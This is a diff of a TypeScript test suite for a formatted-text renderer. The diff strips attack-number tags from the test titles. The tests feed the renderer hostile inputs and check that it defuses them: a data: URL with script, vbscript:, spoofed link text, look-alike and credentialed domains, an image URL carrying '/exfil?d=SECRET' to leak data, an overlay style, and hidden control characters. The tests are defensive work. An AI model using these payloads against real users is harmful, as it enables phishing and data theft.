@@ -67,7 +67,7 @@ describe("links of formatted text", () => {
     ]);
   });
 
-  it("are only text unless they are absolute http, https or mailto addresses (attacks 43, 44)", async () => {
+  it("are only text unless they are absolute http, https or mailto addresses", async () => {
     const addresses = [
       "data:text/html,<script>__pwned=1</script>",
       "vbscript:x",
@@ -89,7 +89,7 @@ describe("links of formatted text", () => {
     await expectQuiet();
   });
 
-  it("that name another place show the real one and ask first (attack 56)", async () => {
+  it("that name another place show the real one and ask first", async () => {
     const element = await show('<a href="https://bank.example/" title="x">https://paypal.com</a>');
     expect(content(element).textContent).to.contain("bank.example");
     expect(content(element).querySelector("a")).to.equal(null);
@@ -104,7 +104,7 @@ describe("links of formatted text", () => {
     expect(element.renderRoot.querySelector(".requested")).to.equal(null);
   });
 
-  it("with look-alike letters show their technical name; with a name and password they are only text (attacks 62, 65)", async () => {
+  it("with look-alike letters show their technical name; with a name and password they are only text", async () => {
     const element = await show(
       "[a](https://xn--pple-43d.com/) [b](https://аррӏе.com/) [c](https://user:pass@evil.example/)",
     );
@@ -122,7 +122,7 @@ describe("links of formatted text", () => {
 });
 
 describe("pictures of formatted text", () => {
-  it("are chips with their host and load nothing (attack 40)", async () => {
+  it("are chips with their host and load nothing", async () => {
     const element = await show(`![x](${CANARY}/exfil?d=SECRET) ![y](https://evil.example/a.png)`);
     expect(content(element).querySelector("img")).to.equal(null);
     expect(content(element).querySelector(".chip")?.textContent).to.contain(location.host);
@@ -181,14 +181,14 @@ describe("hostile markup in formatted text", () => {
     });
   }
 
-  it("can't reach out of its box (attack 52)", async () => {
+  it("can't reach out of its box", async () => {
     const style = getComputedStyle(content(await show('<p style="position:fixed;inset:0">x</p>')));
     expect(style.contain).to.be.oneOf(["content", "layout style paint"]); // the same; Firefox spells it out
     expect(style.overflow).to.equal("clip");
     expect(style.isolation).to.equal("isolate");
   });
 
-  it("has its hidden characters spelled out, also those written as entities (attack 58)", async () => {
+  it("has its hidden characters spelled out, also those written as entities", async () => {
     const element = await show("a\u202eb &#x202e;c **\u001b[2J** <b title='&#x202e;'>t</b> `\u200b`");
     const text = content(element).textContent ?? "";
     expect(text).to.contain("⟦U+202E⟧b").and.to.contain("⟦U+202E⟧c").and.to.contain("␛[2J").and.to.contain("⟦U+200B⟧");
@@ -219,7 +219,7 @@ describe("hostile markup in formatted text", () => {
   });
 });
 
-describe("long and intricate formatted text (attack 55)", () => {
+describe("long and intricate formatted text", () => {
   const mega = (unit: string): string => unit.repeat(Math.ceil(1_048_576 / unit.length));
   const CASES: Readonly<Record<string, string>> = {
     "1 MiB of brackets": mega("["),
